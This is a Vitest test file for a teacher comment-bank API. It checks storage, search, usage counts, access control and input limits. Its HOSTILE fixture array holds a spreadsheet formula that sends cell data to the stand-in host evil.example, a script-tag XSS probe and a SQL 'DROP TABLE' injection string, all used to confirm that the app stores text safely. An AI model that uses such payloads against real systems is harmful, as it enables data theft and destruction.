/*
 * The comment bank through the API: kept, searched, reworded and removed by its teacher
 * only, most used first (a saved feedback item counts the comments it used), and its text
 * exactly as typed, whatever it holds.
 */
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_BANK_COMMENTS } from '../../../contract/marking';
import { UNSTORABLE_TEXT } from '../../../contract/text';
import { bankComments } from '../../db/schema';
import { classroomKeyOf, handIn, signedInTeacher } from '../../test/fixtures';
import { startTestApp, type TestApp, testBackends } from '../../test/harness';

/** Text a comment may hold that must come back exactly: formulas, markup, scripts, quotes. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '<script>alert("x")</script> & <b>bold</b>',
  "Ünïcödé: Zoë, Łukasz, Nguyễn — 👍🏽 “quotes” and 'apostrophes'",
  'مرحبا بالعالم — right to left',
  "Robert'); DROP TABLE bank_comments;--",
];

describe.each(testBackends())('the comment bank on %s', (backend) => {
  let t: TestApp;
  let owner: Awaited<ReturnType<typeof signedInTeacher>>;
  let stranger: Awaited<ReturnType<typeof signedInTeacher>>;

  beforeAll(async () => {
    t = await startTestApp(backend);
    owner = await signedInTeacher(t, 'Grace');
    stranger = await signedInTeacher(t, 'Ada');
  }, 120_000);
  afterAll(async () => t?.close());

  const as = (
    cookie: string,
    method: 'GET' | 'POST' | 'PUT' | 'DELETE',
    url: string,
    payload?: object,
  ) => t.app.inject({ method, url, headers: { cookie }, ...(payload ? { payload } : {}) });
  const save = (text: string, cookie = owner.cookie) =>
    as(cookie, 'POST', '/api/comment-bank', { text });

  it('keeps comments exactly as typed, once each, and lists them to their teacher only', async () => {
    expect((await as(owner.cookie, 'GET', '/api/comment-bank')).json()).toEqual([]);
    const saved = [];
    for (const text of HOSTILE) {
      const response = await save(text);
      expect(response.statusCode, response.body).toBe(200);
      expect(response.json()).toMatchObject({ text, uses: 0, lastUsedAt: null });
      saved.push(response.json());
    }
    // Saving one that is there answers the one there: no copy.
    const again = await save(HOSTILE[0]!);
    expect(again.json().id).toBe(saved[0].id);
    const listed = (await as(owner.cookie, 'GET', '/api/comment-bank')).json();
    expect(listed.map((c: { text: string }) => c.text).sort()).toEqual([...HOSTILE].sort());
    expect((await as(stranger.cookie, 'GET', '/api/comment-bank')).json()).toEqual([]);
    // Nobody signed in gets nothing.
    expect((await t.app.inject({ url: '/api/comment-bank' })).statusCode).toBe(401);
  });

  it('searches by every word, in any order and case', async () => {
    await save('Use paragraphs to show a change of time or place.');
    await save('Check your full stops.');
    const found = (await as(owner.cookie, 'GET', '/api/comment-bank?q=PLACE%20paragraphs')).json();
    expect(found.map((c: { text: string }) => c.text)).toEqual([
      'Use paragraphs to show a change of time or place.',
    ]);
    // LIKE's own characters are searched for as themselves.
    const percent = (await as(owner.cookie, 'GET', '/api/comment-bank?q=%25')).json();
    expect(percent).toEqual([]);
    const long = await as(owner.cookie, 'GET', `/api/comment-bank?q=${'a'.repeat(201)}`);
    expect(long.statusCode).toBe(400);
    expect(long.json().message).toBe('The search is too long');
  });

  it('counts the comments a saved feedback item used, and lists the most used first', async () => {
    const bank = (await as(owner.cookie, 'GET', '/api/comment-bank')).json() as {
      id: number;
      text: string;
    }[];
    const stops = bank.find((c) => c.text === 'Check your full stops.')!;
    const theirs = (await save('Their own comment', stranger.cookie)).json();
    const key = await classroomKeyOf(t, owner.cookie);
    const doc = (await handIn(t, key.keyId)).json();
    for (const _ of [1, 2]) {
      const created = await as(owner.cookie, 'POST', `/api/documents/${doc.id}/feedback`, {
        type: 'text',
        content: stops.text,
        // Another teacher's comment id changes nothing of theirs.
        commentBankIds: [stops.id, theirs.id],
      });
      expect(created.statusCode, created.body).toBe(200);
    }
    const listed = (await as(owner.cookie, 'GET', '/api/comment-bank')).json();
    expect(listed[0]).toMatchObject({ id: stops.id, uses: 2 });
    expect(listed[0].lastUsedAt).not.toBeNull();
    expect((await as(stranger.cookie, 'GET', '/api/comment-bank')).json()[0]).toMatchObject({
      id: theirs.id,
      uses: 0,
    });
  });

  it('rewords and removes a comment of its teacher; another teacher’s is not found', async () => {
    const [first] = (await as(owner.cookie, 'GET', '/api/comment-bank')).json();
    const reworded = await as(owner.cookie, 'PUT', `/api/comment-bank/${first.id}`, {
      text: 'Check every full stop.',
    });
    expect(reworded.json()).toMatchObject({ id: first.id, text: 'Check every full stop.' });
    // Rewording it into one already there would make a copy.
    const copy = await as(owner.cookie, 'PUT', `/api/comment-bank/${first.id}`, {
      text: HOSTILE[1],
    });
    expect(copy.statusCode).toBe(400);
    expect(copy.json().message).toBe('This comment is already in your comment bank');

    for (const [method, payload] of [
      ['PUT', { text: 'Mine now' }],
      ['DELETE', undefined],
    ] as const) {
      const response = await as(stranger.cookie, method, `/api/comment-bank/${first.id}`, payload);
      expect(response.statusCode).toBe(404);
      expect(response.json().message).toBe('Comment not found');
    }
    for (const bad of ['abc', '0', '1e3', '99999999999']) {
      expect((await as(owner.cookie, 'DELETE', `/api/comment-bank/${bad}`)).statusCode).toBe(404);
    }
    const removed = await as(owner.cookie, 'DELETE', `/api/comment-bank/${first.id}`);
    expect(removed.json()).toEqual({ message: 'Comment deleted' });
    expect(await t.ctx.db.select().from(bankComments).where(eq(bankComments.id, first.id))).toEqual(
      [],
    );
  });

  it('refuses an empty, a blank or a too long comment, and a full bank, with a message', async () => {
    const count = async () =>
      (
        await t.ctx.db
          .select()
          .from(bankComments)
          .where(eq(bankComments.teacherId, owner.teacher.id))
      ).length;
    const before = await count();
    for (const [payload, message] of [
      [{}, 'Comment text is required'],
      [{ text: '   ' }, 'Comment text is required'],
      [{ text: 'x'.repeat(1_001) }, 'A comment can be at most 1,000 characters'],
      [{ text: 42 }, 'Comment text is required'],
      // Text PostgreSQL cannot keep as sent is refused, not changed and not a server error.
      [{ text: 'Good\u0000work' }, UNSTORABLE_TEXT],
      [{ text: 'x'.repeat(200_000) }, 'A comment can be at most 1,000 characters'],
    ] as const) {
      const response = await as(owner.cookie, 'POST', '/api/comment-bank', payload);
      expect(response.statusCode, JSON.stringify(payload)).toBe(400);
      expect(response.json().message).toBe(message);
    }
    expect(await count()).toBe(before);

    await t.ctx.db.insert(bankComments).values(
      Array.from({ length: MAX_BANK_COMMENTS - before }, (_, i) => ({
        teacherId: owner.teacher.id,
        text: `Filler comment ${i}`,
      })),
    );
    const full = await save('One too many');
    expect(full.statusCode).toBe(400);
    expect(full.json()).toMatchObject({
      code: 'comment_bank_full',
      message: `Your comment bank is full: it holds ${MAX_BANK_COMMENTS} comments. Delete some you no longer use, then save this one again.`,
    });
    expect(await count()).toBe(MAX_BANK_COMMENTS);
    // Another teacher's bank is their own.
    expect((await save('Still room here', stranger.cookie)).statusCode).toBe(200);
  });
});
